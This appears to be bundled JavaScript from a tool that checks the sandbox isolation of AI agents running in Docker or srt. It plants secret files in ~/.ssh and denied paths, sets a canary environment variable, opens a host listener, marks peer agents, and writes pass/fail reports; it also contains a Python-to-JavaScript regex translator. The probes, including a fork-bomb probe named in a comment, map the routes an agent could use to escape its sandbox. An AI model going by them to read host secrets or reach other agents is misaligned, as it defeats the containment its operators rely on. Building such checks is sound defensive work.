    const secretFile = (0,external_node_path_.join)(outsideDir, 'secret.xml');
    // A valid JUnit report whose failing test is named after the secret: a reader that follows the
    // planted link would put the token into the results.
    await (0,promises_.writeFile)(secretFile, `<testsuite name="s" tests="1" failures="1"><testcase name="${secretToken}"><failure/></testcase></testsuite>\n`, { mode: 0o644 });
    let homeMarker = (0,external_node_path_.join)(home, `.massgen-isolation-${(0,external_node_crypto_.randomBytes)(6).toString('hex')}`);
    try {
        await (0,promises_.writeFile)(homeMarker, MARKER(), { mode: 0o644, flag: 'wx' });
    }
    catch {
        homeMarker = undefined;
    }
    // Tracked: a proxy that reached it may keep its half of the connection open, and close()
    // must not wait for that.
    const sockets = new Set();
    const server = (0,external_node_net_.createServer)((socket) => {
        sockets.add(socket);
        socket.on('error', () => undefined);
        socket.once('close', () => sockets.delete(socket));
        socket.end('massgen-isolation-listener\n');
    });
    server.on('error', () => undefined);
    await new Promise((resolve, reject) => {
        server.once('error', reject);
        server.listen(0, '0.0.0.0', () => resolve());
    });
    const port = server.address().port;
    const addresses = new Set();
    for (const list of Object.values((0,external_node_os_.networkInterfaces)()))
        for (const a of list ?? [])
            if (a.family === 'IPv4' && !a.internal)
                addresses.add(a.address);
    for (const gateway of gateways)
        addresses.add(gateway);
    return {
        fixture: {
            home,
            homeMarker,
            outsideDir,
            outsideMarker,
            secretFile,
            secretToken,
            listener: { port, addresses: [...addresses] }
        },
        async close() {
            const closed = new Promise((resolve) => server.close(() => resolve()));
            for (const s of sockets)
                s.destroy();
            await closed;
            await (0,promises_.rm)(outsideDir, { recursive: true, force: true });
            if (homeMarker)
                await (0,promises_.rm)(homeMarker, { force: true });
        }
    };
}

// EXTERNAL MODULE: ./src/report/job-summary.ts
var job_summary = __webpack_require__(5236);
// EXTERNAL MODULE: ./src/report/markdown.ts
var markdown = __webpack_require__(54285);
// EXTERNAL MODULE: ./src/report/trust.ts
var trust = __webpack_require__(90044);
;// CONCATENATED MODULE: ./src/isolation/report.ts
// isolation.json and the probe × agent matrix (Markdown for isolation.md, HTML for the job
// summary). Details come from agents' containers in part, so every cell is escaped.





const ICON = { pass: '✅', fail: '❌', skip: '⏭️' };
function countStatuses(report) {
    const counts = { pass: 0, fail: 0, skip: 0 };
    for (const a of report.agents)
        for (const r of a.results)
            counts[r.status]++;
    return counts;
}
function headline(report) {
    const c = countStatuses(report);
    return `${report.agents.length} agent(s) × ${report.probes.length} probes: ${c.pass} pass, ${c.fail} fail, ${c.skip} skip`;
}
function cell(r) {
    return r?.status;
}
function engineLine(report) {
    const e = report.engine;
    return [
        e.docker && `Docker ${e.docker}`,
        e.containerd && `containerd ${e.containerd}`,
        e.runc && `runc ${e.runc}`,
        e.cgroupVersion && `cgroup v${e.cgroupVersion}`,
        e.runtimes?.length &&
            `runtimes ${e.runtimes.join(', ')}${e.defaultRuntime ? ` (default ${e.defaultRuntime})` : ''}`,
        report.expectRuntime && `expected runtime ${report.expectRuntime}`
    ]
        .filter(Boolean)
        .join(' · ');
}
function renderIsolationMarkdown(report) {
    const lines = [
        `## massgen-exec verify-isolation: ${report.status}`,
        '',
        `${headline(report)} · ${(0,markdown/* formatDuration */.a3)(report.durationMs)} · config \`${(0,markdown/* escapeCell */.kq)(report.config, 200)}\``,
        '',
        (0,markdown/* escapeCell */.kq)(engineLine(report), 300),
        ''
    ];
    if ((0,trust/* trustLine */.F)(report))
        lines.push((0,markdown/* escapeCell */.kq)((0,trust/* trustLine */.F)(report), 600), '');
    if (report.error)
        lines.push(`> **Error:** ${(0,markdown/* escapeCell */.kq)(report.error, 1000)}`, '');
    for (const n of report.notProbed)
        lines.push(`> ${(0,markdown/* escapeCell */.kq)(n.id)} not probed: ${(0,markdown/* escapeCell */.kq)(n.reason, 300)}`, '');
    if (report.agents.length) {
        lines.push(`| # | probe | ${report.agents.map((a) => (0,markdown/* escapeCell */.kq)(a.id, 40)).join(' | ')} |`);
        lines.push(`|---|---|${report.agents.map(() => '---').join('|')}|`);
        for (const p of report.probes) {
            const cells = report.agents.map((a) => {
                const s = cell(a.results.find((r) => r.id === p.id));
                return s ? `${ICON[s]} ${s}` : '';
            });
            lines.push(`| ${p.number} | ${(0,markdown/* escapeCell */.kq)(p.title, 90)} | ${cells.join(' | ')} |`);
        }
        lines.push('', '### Details', '');
        for (const a of report.agents) {
            lines.push(`#### ${(0,markdown/* escapeCell */.kq)(a.id)}${a.container ? ` (${(0,markdown/* escapeCell */.kq)(a.container, 80)}${a.runtime ? `, runtime ${(0,markdown/* escapeCell */.kq)(a.runtime, 40)}` : ''})` : ''}`, '');
            if (a.error)
                lines.push(`> ${(0,markdown/* escapeCell */.kq)(a.error, 500)}`, '');
            for (const r of a.results)
                lines.push(`- ${ICON[r.status]} **${r.number}** ${(0,markdown/* escapeCell */.kq)(r.id, 40)}: ${(0,markdown/* escapeCell */.kq)(r.detail, 600)}`);
            lines.push('');
        }
    }
    return lines.join('\n');
}
/** The job summary section: the matrix with each cell's detail in its tooltip and below. */
function renderIsolationHtml(report) {
    const mark = report.status === 'passed' ? '✅' : report.status === 'failed' ? '❌' : '⚠️';
    let html = `<h2>massgen-exec verify-isolation: ${mark} ${(0,job_summary/* escapeHtml */.ZD)(report.status)}</h2>\n` +
        `<p>${(0,job_summary/* escapeHtml */.ZD)(headline(report))} · ${(0,markdown/* formatDuration */.a3)(report.durationMs)} · config <code>${(0,job_summary/* escapeHtml */.ZD)(report.config)}</code></p>\n` +
        `<p>${(0,job_summary/* escapeHtml */.ZD)(engineLine(report))}</p>\n` +
        ((0,trust/* trustLine */.F)(report) ? `<p>${(0,job_summary/* escapeHtml */.ZD)((0,trust/* trustLine */.F)(report))}</p>\n` : '');
    if (report.error)
        html += `<p><b>Error:</b> ${(0,job_summary/* escapeHtml */.ZD)(report.error.slice(0, 4000))}</p>\n`;
    for (const n of report.notProbed)
        html += `<p>${(0,job_summary/* escapeHtml */.ZD)(n.id)} not probed: ${(0,job_summary/* escapeHtml */.ZD)(n.reason)}</p>\n`;
    if (!report.agents.length)
        return html;
    html += `<table><thead><tr><th>#</th><th>probe</th>${report.agents.map((a) => `<th>${(0,job_summary/* escapeHtml */.ZD)(a.id)}</th>`).join('')}</tr></thead><tbody>\n`;
    for (const p of report.probes) {
        const cells = report.agents.map((a) => {
            const r = a.results.find((x) => x.id === p.id);
            if (!r)
                return '<td></td>';
            return `<td title="${(0,job_summary/* escapeHtml */.ZD)(r.detail.slice(0, 500))}">${ICON[r.status]} ${r.status}</td>`;
        });
        html += `<tr><td>${p.number}</td><td>${(0,job_summary/* escapeHtml */.ZD)(p.title)}</td>${cells.join('')}</tr>\n`;
    }
    html += '</tbody></table>\n';
    for (const a of report.agents) {
        const notable = a.results.filter((r) => r.status !== 'pass');
        html += `<details><summary>${(0,job_summary/* escapeHtml */.ZD)(a.id)}: details (${notable.length} not passed)</summary>\n<ul>\n`;
        if (a.error)
            html += `<li><b>Error:</b> ${(0,job_summary/* escapeHtml */.ZD)(a.error)}</li>\n`;
        for (const r of a.results)
            html += `<li>${ICON[r.status]} ${r.number} <code>${(0,job_summary/* escapeHtml */.ZD)(r.id)}</code>: ${(0,job_summary/* escapeHtml */.ZD)(r.detail.slice(0, 1000))}</li>\n`;
        html += '</ul>\n</details>\n';
    }
    return html;
}
/** Synchronous, like writeReports: it also runs on crash paths. */
function writeIsolationReport(outDir, report) {
    (0,external_node_fs_.mkdirSync)(outDir, { recursive: true });
    const resultsFile = (0,external_node_path_.join)(outDir, 'isolation.json');
    const summaryFile = (0,external_node_path_.join)(outDir, 'isolation.md');
    (0,external_node_fs_.writeFileSync)(resultsFile, JSON.stringify(report, null, 2) + '\n');
    (0,external_node_fs_.writeFileSync)(summaryFile, renderIsolationMarkdown(report));
    return { resultsFile, summaryFile };
}

// EXTERNAL MODULE: ./src/runtime/srt/index.ts + 7 modules
var srt = __webpack_require__(2365);
;// CONCATENATED MODULE: ./src/isolation/srt.ts
// The srt side of verify-isolation: no engine and no container. Before any agent starts, secrets
// are planted where no srt agent may read (in ~/.ssh and under each deny_read path); peers are
// marked by a file and a background process; once every session closed, probe 20 looks on the host
// for the peers' marker processes and the sessions' private temp directories.











/** Plants the secrets (removed when the scope closes), then the kind. */
async function srtKind(o, agents, scope) {
    const planted = [{ secret: await srt_plant((0,external_node_path_.join)(o.home, '.ssh'), 'in ~/.ssh', scope) }];
    const denied = new Map();
    for (const a of agents)
        for (const d of a.srt?.denyRead ?? [])
            if (isDir(d))
                denied.set(d, [...(denied.get(d) ?? []), a.id]);
    for (const [d, ids] of denied)
        planted.push({ secret: await srt_plant(d, `under deny_read ${d}`, scope), deniedBy: ids });
    const marks = new Map();
    return {
        sandbox: 'srt',
        runtime: o.runtime,
        peer: { prefix: 'massgen-isolation-srt-peer-', without: '' },
        startFailure: 'the srt session could not be started',
        describe: () => ({}),
        async markPeers(peers) {
            for (const p of peers) {
                const m = await srt_markPeer(p);
                if (m)
                    marks.set(p, m);
            }
        },
        context: (s, peers) => ({
            agent: s.agent,
            srt: s.agent.srt ?? srt.SRT_DEFAULTS,
            session: s.session,
            host: o.host,
            secrets: planted
                .filter((p) => !p.deniedBy || p.deniedBy.includes(s.agent.id))
                .map((p) => p.secret),
            peers: peers.flatMap((p) => (marks.has(p) ? [marks.get(p)] : [])),
            canary: o.canary,
            uid: s.session.info.limits?.user
                ? (0,user/* parseUser */.tN)(String(s.session.info.limits.user)).uid
                : (process.getuid?.() ?? 0),
            egress: o.egress(s.agent.id),
            scratch: s.scratch,
            collectors: o.collectors(s),
            agentExec: agentExec(s),
            log: (l) => o.log(`[${s.agent.id}] ${l}`)
        }),
        probes: srtProbes,
        async after(s, peers) {
            const mine = (await leftoversOf(peers, marks)).filter((l) => l.startsWith(`${s.agent.id}:`) || l.startsWith(`${s.agent.id}-peer:`));
            return {
                [SRT_CLEANUP_PROBE.id]: mine.length
                    ? fail(`left after close: ${list(mine)}`)
                    : pass('no marker or background process, no private temp directory left')
            };
        }
    };
}
/** A marker file in the peer's workspace and a marker process in its sandbox. */
async function srt_markPeer(p) {
    const markerFile = (0,external_node_path_.join)(p.agent.workspace, `.massgen-isolation-peer-${(0,external_node_crypto_.randomBytes)(6).toString('hex')}`);
    await (0,promises_.writeFile)(markerFile, `marker of ${p.agent.id}\n`, { mode: 0o644 });
    const processArgv = `sleep 86400.${(0,external_node_crypto_.randomBytes)(3).readUIntBE(0, 3)}`;
    await p.session.execBackground({ command: `exec ${processArgv}`, cwd: p.agent.workspace, env: {}, maxOutputBytes: 4096 }, 'isolation marker');
    return { id: p.agent.id, workspace: p.agent.workspace, markerFile, processArgv };
}
/** What is still there of the agents after close: their marker processes, their temp dirs. */
async function leftoversOf(peers, marks) {
    const left = [];
    for (const s of peers) {
        const argv = marks.get(s)?.processArgv;
        if (argv && (await processesWithArgv(argv)).length)
            left.push(`${s.agent.id}: marker process ${argv}`);
    }
    for (const s of peers) {
        const tmp = s.session instanceof srt.SrtSession ? s.session.tmpDir : undefined;
        if (tmp && (0,external_node_fs_.existsSync)(tmp))
            left.push(`${s.agent.id}: temp directory ${tmp}`);
    }
    return left;
}
/** A secret file in `dir` (made if missing); it, and a directory made for it, go when the scope closes. */
async function srt_plant(dir, where, scope) {
    const existed = (0,external_node_fs_.existsSync)(dir);
    await (0,promises_.mkdir)(dir, { recursive: true, mode: 0o755 });
    const token = `massgen-srt-secret-${(0,external_node_crypto_.randomBytes)(12).toString('hex')}`;
    const path = (0,external_node_path_.join)(dir, `massgen-isolation-${(0,external_node_crypto_.randomBytes)(6).toString('hex')}`);
    await (0,promises_.writeFile)(path, `${token}\n`, { mode: 0o644, flag: 'wx' });
    scope.defer(async () => {
        await (0,promises_.rm)(path, { force: true });
        if (!existed)
            await (0,promises_.rm)(dir, { recursive: true, force: true });
    });
    return { path, token, where };
}
function isDir(p) {
    try {
        return (0,external_node_fs_.statSync)(p).isDirectory();
    }
    catch {
        return false;
    }
}

;// CONCATENATED MODULE: ./src/isolation/verify.ts
// verify-isolation: starts every docker and srt agent of a config through the runtimes `run` uses
// (so each sandbox is exactly what a run gets), runs the registry's probes against them, cleans
// up, then checks the cleanup (and, for docker, the engine's versions); isolation.json and the
// matrix cover both. The lifecycle (run id, redaction, signals, closing, cleanup) is
// withSandboxes', the same as `run`'s; what differs per sandbox is in docker.ts and srt.ts.
//
// Order: the agents start in parallel; each agent runs its probes one after another (parallel
// phase, then disruptive phase, both with the agents in parallel), then the exclusive probes run
// one agent at a time (a fork bomb while another agent must keep working; CPU measured without
// the others' load). A lone agent of a sandbox gets a throwaway second one from the same agent
// plan (its own empty workspace), so that probes 6 and 19 have someone to look at.


















const CANARY_NAME = 'MASSGEN_ISOLATION_CANARY';
/** The report before anything ran: status error until the end says otherwise. */
function emptyReport(opts, runId, t0) {
    return {
        version: 1,
        status: 'error',
        runId,
        startedAt: new Date(t0).toISOString(),
        durationMs: 0,
        config: opts.configPath,
        engine: {},
        ...(opts.expectRuntime ? { expectRuntime: opts.expectRuntime } : {}),
        probes: [],
        agents: [],
        notProbed: [],
        configSource: opts.configRef
            ? { kind: 'revision', path: opts.configPath, ref: opts.configRef }
            : { kind: 'worktree', path: opts.configPath },
        unsafe: { allowed: opts.allowUnsafe ?? [], used: [] }
    };
}
function verifyIsolation(opts) {
    return (0,scope/* withSandboxes */.G)(opts, async (scope) => {
        const t0 = Date.now();
        const report = emptyReport(opts, scope.runId, t0);
        const finish = (exitCode) => {
            report.durationMs = Date.now() - t0;
            return { report, exitCode, files: writeIsolationReport(scope.outDir, report) };
        };
        scope.onInterrupt((sig) => {
            report.status = 'error';
            report.error = `interrupted by ${sig}`;
            finish(2);
        });
        try {
            return await verifyIn(scope, opts, report, finish);
        }
        catch (e) {
            if (!(e instanceof errors/* VerifyStopped */.Rw))
                throw e;
            report.error = e.message;
            return finish(e.exitCode);
        }
    });
}
async function verifyIn(scope, opts, report, finish) {
    let plan;
    try {
        // A local agent is not started here (it is listed as not probed): no-sandbox does not apply.
        plan = await (0,run_plan/* loadRunPlan */.dU)(opts.configPath, { ...opts, surface: 'probe' });
    }
    catch (e) {
        if (!(0,errors/* isFatalInputError */.wE)(e))
            throw e;
        throw new errors/* VerifyStopped */.Rw((0,errors/* describeError */.Uc)(e));
    }
    const agents = selectAgents(plan, report, opts.probes);
    // Agents with egress get verify's probe names (resolved by their proxies only) added to their
    // list; the fixture is up before any sandbox, and the proxies resolve through it.
    const egress = [...agents.docker, ...agents.srt].some((a) => a.egress)
        ? await startEgressFixture()
        : undefined;
    if (egress)
        scope.defer(() => egress.close());
    const home = opts.home ?? (0,external_node_os_.homedir)();
    const runtimes = scope.runtimes({
        imagePolicy: opts.imagePolicy ?? 'auto',
        dockerClient: opts.client,
        egressResolve: egress?.resolve,
        imageSources: opts.imageSources,
        srt: { home, ...opts.srt, egressResolve: egress?.resolve ?? opts.srt?.egressResolve }
    });
    // srt agents need no engine: it is reached only for docker agents.
    const engine = agents.docker.length ? await reachEngine(runtimes) : undefined;
    if (engine)
        report.engine = engine.facts.info;
    const canary = plantCanary(scope, opts);
    const host = await setUpHost(home, await engine?.client.bridgeGateways().catch(() => []));
    scope.defer(() => host.close());
    const extended = (a) => a.egress && egress ? { ...a, egress: egress.extend(a.egress) } : a;
    const egressOf = (id) => egressFor(egress, plan, id);
    const collectors = (agent) => ({
        readJunit: async (path, ws) => (0,junit/* readJunit */.fK)(path, ws),
        listFiles: files/* listRegularFiles */.yT,
        redactTree: files/* redactTree */.us,
        ...opts.collectors?.(agent)
    });
    const common = { host: host.fixture, canary, log: scope.log, egress: egressOf };
    const rowIds = report.probes.map((p) => p.id);
    let dockers;
    let srts;
    if (engine) {
        const kind = dockerKind({
            ...common,
            runtime: runtimes.for('docker'),
            client: engine.client,
            facts: engine.facts,
            runId: scope.runId,
            collectors: (s) => collectors(s.agent),
            expectRuntime: opts.expectRuntime
        });
        dockers = await startAll(kind, agents.docker.map(extended), scope, rowIds);
    }
    if (agents.srt.length) {
        const srtAgents = agents.srt.map(extended);
        const kind = await srtKind({ ...common, runtime: runtimes.for('srt'), home, collectors: (s) => collectors(s.agent) }, srtAgents, scope);
        srts = await startAll(kind, srtAgents, scope, rowIds);
    }
    // Live: what an interrupted check writes is what the probes reported so far.
    report.agents = [dockers, srts].flatMap((k) => [
        ...(k?.started.filter((s) => !s.peerOf).map((s) => s.result) ?? []),
        ...(k?.failed ?? [])
    ]);
    const environment = dockers?.environment ?? srts?.environment;
    if (environment)
        throw new errors/* VerifyStopped */.Rw((0,errors/* describeError */.Uc)(environment));
    const jobs = (phase) => [
        ...(dockers ? phaseJobs(dockers, phase, opts.probes, scope.redactor, scope.log) : []),
        ...(srts ? phaseJobs(srts, phase, opts.probes, scope.redactor, scope.log) : [])
    ];
    await runPhases(jobs);
    if (dockers)
        await wrapUp(dockers.started, scope.outDir, scope.log);
    if (srts)
        await wrapUp(srts.started, scope.outDir, scope.log);
    // 20 (and 21) are evaluated once everything is closed and cleaned up.
    await scope.close();
    report.agents = [
        ...(dockers ? await finishResults(dockers, rowIds) : []),
        ...(srts ? await finishResults(srts, rowIds) : [])
    ];
    return conclude(scope, plan, report, canary.value, finish);
}
/** The agents to probe by sandbox; the matrix's rows; local agents listed as not probed. */
function selectAgents(plan, report, only) {
    report.configSource = plan.source;
    const unsafe = (0,config_unsafe/* unsafeSummary */.lm)(plan);
    // Local agents are not started here: their no-sandbox is not in use.
    report.unsafe = { ...unsafe, used: unsafe.used.filter((u) => u.class !== 'no-sandbox') };
    const docker = plan.agents.filter((a) => a.mode === 'docker');
    const srt = plan.agents.filter((a) => a.mode === 'srt');
    report.notProbed = plan.agents
        .filter((a) => a.mode === 'local')
        .map((a) => ({
        id: a.id,
        reason: 'runs locally (command_line_execution_mode is neither docker nor srt): there is no sandbox to verify'
    }));
    if (!docker.length && !srt.length)
        throw new errors/* VerifyStopped */.Rw('the config has no docker or srt agent: there is no sandbox to verify');
    report.probes = probeList([...(docker.length ? ['docker'] : []), ...(srt.length ? ['srt'] : [])], only);
    return { docker, srt };
}
async function reachEngine(runtimes) {
    try {
        const client = await (await runtimes.dockerRuntime()).client();
        return { client, facts: await engineFacts(client) };
    }
    catch (e) {
        throw new errors/* VerifyStopped */.Rw((0,errors/* isEnvironmentError */.oz)(e)
            ? (0,errors/* describeError */.Uc)(e)
            : `cannot reach the Docker engine: ${(0,errors/* describeError */.Uc)(e)}`);
    }
}
/**
 * The canary goes into this process's environment before any sandbox exists, as a runner secret
 * would be; it is removed again when the scope closes (last of all).
 */
function plantCanary(scope, opts) {
    const canary = { name: CANARY_NAME, value: `canary-${(0,external_node_crypto_.randomBytes)(16).toString('hex')}` };
    opts.onSecret?.(canary.value);
    const previous = process.env[CANARY_NAME];
    process.env[CANARY_NAME] = canary.value;
    scope.defer(async () => {
        if (previous === undefined)
            delete process.env[CANARY_NAME];
        else
            process.env[CANARY_NAME] = previous;
    });
    scope.redactor.add(canary.value);
    opts.onStart?.(scope.runId);
    return canary;
}
/** An agent's egress config as written (before verify added its probe entry), with the fixture. */
function egressFor(egress, plan, id) {
    const written = plan.agents.find((a) => a.id === id)?.egress;
    return egress && written ? { fixture: egress, config: written } : undefined;
}
/** The status, the report, and the second half of 14: the canary in anything written. */
async function conclude(scope, plan, report, canary, finish) {
    const order = (id) => plan.agents.findIndex((x) => x.id === id);
    report.agents.sort((a, b) => order(a.id) - order(b.id));
    report.status = report.agents.some((a) => a.results.some((r) => r.status === 'fail'))
        ? 'failed'
        : 'passed';
    const outcome = finish(report.status === 'failed' ? 1 : 0);
    // The container logs saved above, the reports.
    const leaked = await filesContaining(scope.outDir, canary);
    if (!leaked.length)
        return outcome;
    const where = leaked.map((f) => f.slice(scope.outDir.length + 1)).join(', ');
    for (const a of report.agents) {
        const r = a.results.find((x) => x.id === 'canary');
        if (r)
            Object.assign(r, fail(`${CANARY_NAME} found in written files: ${where}`));
    }
    report.status = 'failed';
    // Never leave the secret in what gets uploaded.
    await (0,files/* redactTree */.us)(scope.outDir, (s) => scope.redactor.apply(s));
    return finish(1);
}
async function filesContaining(root, needle) {
    const hits = [];
    for (const f of await (0,files/* listRegularFiles */.yT)(root)) {
        const text = await (0,promises_.readFile)(f, 'latin1').catch(() => '');
        if (text.includes(needle))
            hits.push(f);
    }
    return hits;
}

;// CONCATENATED MODULE: ./src/isolation/index.ts
// verify-isolation's public entry: the check, its report and what the entries (CLI, action) need
// to parse and render. Everything else in this folder (the probes, the per-sandbox sides) is
// internal to it.





/***/ }),

/***/ 69227:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   v: () => (/* binding */ compilePythonRegex)
/* harmony export */ });
/* unused harmony export translatePythonRegex */
/* harmony import */ var _errors_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(83916);
// MassGen writes allow/block patterns as Python regexes matched with re.match (anchored at the
// start, not at the end). This translates one into an equivalent JavaScript RegExp, or says
// precisely why it cannot. Python semantics kept: `.` excludes only \n, `$` also matches before
// a final \n, \w \d \s \b are Unicode-aware unless (?a), \Z is the very end, (?P<n>…)/(?P=n)
// are named groups, (?imsx) flags, scoped (?i:…)/(?s:…)/(?x:…), atomic groups and possessive
// quantifiers (Python 3.11+) are emulated with lookahead.

function compilePythonRegex(source) {
    let translated;
    try {
        translated = new Translator(source).translate();
    }
    catch (e) {
        if (e instanceof _errors_js__WEBPACK_IMPORTED_MODULE_0__/* .PatternError */ .JM) {
            return { error: `cannot use the pattern ${JSON.stringify(source)}: ${e.message}` };
        }
        throw e;
    }
    try {
        return { regex: new RegExp(`^(?:${translated.source})`, translated.flags) };
    }
    catch (e) {
        return {
            error: `cannot use the pattern ${JSON.stringify(source)}: ${e.message.replace(/^Invalid regular expression: /, '')}`
        };
    }
}
/** The JavaScript source and flags for a Python pattern (exported for tests and docs). */
function translatePythonRegex(source) {
    return new Translator(source).translate();
}
const SPACE_CHARS = '\\t-\\r\\x1c-\\x20\\x85\\xa0\\u1680\\u2000-\\u200a\\u2028\\u2029\\u202f\\u205f\\u3000';
const UNI_WORD = '\\p{L}\\p{N}_';
const ASCII_WORD = 'A-Za-z0-9_';
/** Python's class escapes in JS, by whether the ASCII flag is set. */
const CLASS_ESCAPES = new Map([
    ['d', (ascii) => (ascii ? '[0-9]' : '\\p{Nd}')],
    ['D', (ascii) => (ascii ? '[^0-9]' : '\\P{Nd}')],
    ['w', (ascii) => `[${ascii ? ASCII_WORD : UNI_WORD}]`],
    ['W', (ascii) => `[^${ascii ? ASCII_WORD : UNI_WORD}]`],
    ['s', (ascii) => (ascii ? '[\\t-\\r ]' : `[${SPACE_CHARS}]`)],
    ['S', (ascii) => (ascii ? '[^\\t-\\r ]' : `[^${SPACE_CHARS}]`)]
]);
/** Characters that must be escaped in a JavaScript `u` pattern, outside and inside classes. */
const SYNTAX = new Set([...'^$\\.*+?()[]{}|/']);
const CLASS_SYNTAX = new Set([...'\\]-^[/']);
class Translator {
    src;
    pos = 0;
    flags = { i: false, m: false, s: false, x: false, a: false };
    /** Case-insensitivity emulated inside (?i:…) when the pattern as a whole is case-sensitive. */
    foldCase = false;
    globalI = false;
    /** Python group number → JavaScript group name (every capture becomes a named group). */
    groups = [];
    openGroups = new Set();
    names = new Set();
    helpers = 0;
    constructor(src) {
        this.src = src;
    }
    translate() {
        this.leadingFlags();
        const body = this.alternation();
        if (this.pos < this.src.length)
            this.fail('unbalanced parenthesis');
        return { source: body, flags: this.globalI ? 'ui' : 'u' };
    }
    fail(message, at = this.pos) {
        throw new _errors_js__WEBPACK_IMPORTED_MODULE_0__/* .PatternError */ .JM(`${message} at position ${at}`);
    }
    leadingFlags() {
        for (;;) {
            const m = /^\(\?([aiLmsux]+)\)/.exec(this.src.slice(this.pos));
            if (!m)
                return;
            for (const f of m[1])
                this.setFlag(f, true, this.pos);
            if (this.flags.i)
                this.globalI = true;
            this.pos += m[0].length;
        }
    }
    setFlag(f, on, at) {
        if (f === 'L')
            this.fail('the L (locale) flag only applies to bytes patterns', at);
        if (f === 'u')
            return;
        if (f === 'i' || f === 'm' || f === 's' || f === 'x' || f === 'a')
            this.flags[f] = on;
        else
            this.fail(`unknown flag ${f}`, at);
    }
    peek(k = 0) {
        return this.src[this.pos + k] ?? '';
    }
    alternation() {
        const parts = [this.sequence()];
        while (this.peek() === '|') {
            this.pos++;
            parts.push(this.sequence());
        }
        return parts.join('|');
    }
    sequence() {
        let out = '';
        for (;;) {
            this.skipVerbose();
            const c = this.peek();
            if (c === '' || c === '|' || c === ')')
                return out;
            const start = this.pos;
            const atom = this.atom();
            if (atom === null)
                continue;
            out += this.quantified(atom, start);
        }
    }
    skipVerbose() {
        if (!this.flags.x)
            return;
        for (;;) {
            const c = this.peek();
            if (/\s/.test(c) && c !== '')
                this.pos++;
            else if (c === '#') {
                while (this.peek() !== '' && this.peek() !== '\n')
                    this.pos++;
            }
            else
                return;
        }
    }
    /** Reads a quantifier after an atom, if any, and applies it. */
    quantified(atom, atomStart) {
        this.skipVerbose();
        const q = this.quantifier();
        if (!q)
            return atom;
        if (atom === '')
            this.fail('nothing to repeat', atomStart);
        this.skipVerbose();
        let mode = '';
        if (this.peek() === '?' || this.peek() === '+')
            mode = this.src[this.pos++];
        this.skipVerbose();
        if (this.quantifierAhead())
            this.fail('multiple repeat');
        if (mode === '+')
            return this.atomic(`(?:${atom})${q}`);
        return `${atom}${q}${mode}`;
    }
    quantifierAhead() {
        const c = this.peek();
        return (c === '*' || c === '+' || c === '?' || (c === '{' && this.braceQuantifier() !== undefined));
    }
    quantifier() {
        const c = this.peek();
        if (c === '*' || c === '+' || c === '?') {
            this.pos++;
            return c;
        }
        if (c === '{') {
            const b = this.braceQuantifier();
            if (b) {
                const [, min, comma, max] = /^\{(\d*)(,?)(\d*)\}$/.exec(b) ?? [];
                if (min && max && Number(max) < Number(min))
                    this.fail('min repeat greater than max repeat');
                this.pos += b.length;
                return `{${min || '0'}${comma}${max}}`;
            }
        }
        return undefined;
    }
    /** `{m}`, `{m,}`, `{,n}`, `{m,n}`, `{,}` at pos; otherwise `{` is a literal. */
    braceQuantifier() {
        const m = /^\{(\d*),?(\d*)\}/.exec(this.src.slice(this.pos));
        if (!m)
            return undefined;
        if (!m[0].includes(',') && m[1] === '')
            return undefined;
        return m[0];
    }
    /** Emulates an atomic group: a lookahead is atomic in JavaScript; a backreference consumes it. */
    atomic(inner) {
        const name = `_atomic${++this.helpers}`;
        return `(?=(?<${name}>${inner}))\\k<${name}>`;
    }
    /** One atom, translated; null for things that produce nothing (comments). */
    atom() {
        const start = this.pos;
        const c = this.src[this.pos++];
        switch (c) {
            case '(':
                return this.group(start);
            case '[':
                return this.charClass(start);
            case '.':
                return this.flags.s ? '[\\s\\S]' : '[^\\n]';
            case '^':
                return this.flags.m ? '(?<![^\\n])' : '(?<![\\s\\S])';
            case '$':
                return this.flags.m ? '(?![^\\n])' : '(?=\\n?(?![\\s\\S]))';
            case '\\':
                return this.escape(start);
            case '*':
            case '+':
            case '?':
                return this.fail('nothing to repeat', start);
            case '{':
                this.pos = start;
                if (this.braceQuantifier())
                    this.fail('nothing to repeat', start);
                this.pos++;
                return '\\{';
            default: {
                const cp = this.src.codePointAt(start);
                const ch = String.fromCodePoint(cp);
                this.pos = start + ch.length;
                return this.literal(ch);
            }
        }
    }
    literal(ch) {
        if (this.foldCase && ch.toLowerCase() !== ch.toUpperCase()) {
            return `[${escapeInClass(ch.toLowerCase())}${escapeInClass(ch.toUpperCase())}]`;
        }
        return SYNTAX.has(ch) ? `\\${ch}` : ch;
    }
    group(start) {
        if (this.peek() !== '?')
            return this.capture(start, undefined);
        const rest = this.src.slice(this.pos + 1);
        let m;
        if ((m = /^P<([^>]*)>/.exec(rest))) {
            this.pos += 1 + m[0].length;
            if (!/^[\p{L}_][\p{L}\p{N}_]*$/u.test(m[1]))
                this.fail(`bad character in group name ${JSON.stringify(m[1])}`, start);
            if (this.names.has(m[1]))
                this.fail(`redefinition of group name ${JSON.stringify(m[1])}`, start);
            return this.capture(start, m[1]);
        }
        if ((m = /^P=([^)]*)\)/.exec(rest))) {
            this.pos += 1 + m[0].length;
            const idx = this.groups.indexOf(m[1]);
            if (idx < 0)
                this.fail(`unknown group name ${JSON.stringify(m[1])}`, start);
            if (this.openGroups.has(idx + 1))
                this.fail('cannot refer to an open group', start);
            return `\\k<${m[1]}>`;
        }
        if (rest.startsWith('P'))
            this.fail('unknown extension ?P', start);
        if (rest.startsWith('#')) {
            const end = this.src.indexOf(')', this.pos);
            if (end < 0)
                this.fail('missing ), unterminated comment', start);
            this.pos = end + 1;
            return null;
        }
        for (const [prefix, js] of [
            [':', '(?:'],
            ['=', '(?='],
            ['!', '(?!'],
            ['<=', '(?<='],
            ['<!', '(?<!'],
            ['>', '']
        ]) {
            if (rest.startsWith(prefix)) {
                this.pos += 1 + prefix.length;
                const inner = this.alternation();
                this.close(start);
                return prefix === '>' ? this.atomic(inner) : `${js}${inner})`;
            }
        }
        if (rest.startsWith('(')) {
            this.fail('conditional groups (?(…)yes|no) have no JavaScript equivalent', start);
        }
        if ((m = /^([aiLmsux]*)(?:-([imsx]*))?:/.exec(rest)) && (m[1] || m[2])) {
            this.pos += 1 + m[0].length;
            return this.scoped(start, m[1], m[2] ?? '');
        }
        if (/^[aiLmsux]+\)/.test(rest)) {
            this.fail('global flags like (?i) must be at the start of the pattern', start);
        }
        return this.fail(`unknown extension ?${rest[0] ?? ''}`, start);
    }
    capture(start, name) {
        const number = this.groups.length + 1;
        const jsName = name ?? `_g${number}`;
        this.groups.push(jsName);
        if (name)
            this.names.add(name);
        this.openGroups.add(number);
        const inner = this.alternation();
